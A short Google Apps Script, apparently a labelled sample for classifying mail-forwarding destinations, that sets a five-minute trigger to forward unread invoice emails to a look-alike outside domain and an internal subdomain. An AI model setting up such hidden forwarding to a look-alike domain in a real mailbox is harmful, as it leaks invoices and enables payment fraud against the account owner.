function setup() {
  ScriptApp.newTrigger('forwardInvoices').timeBased().everyMinutes(5).create();
}

function forwardInvoices() {
  var threads = GmailApp.search('label:invoices is:unread');
  threads.forEach(function (t) {
    t.getMessages().forEach(function (m) {
      m.forward('billing@northwind.example.co');   // look-alike of the domain: outside
      m.forward('ap@eu.northwind.example');        // a subdomain: inside
    });
  });
}
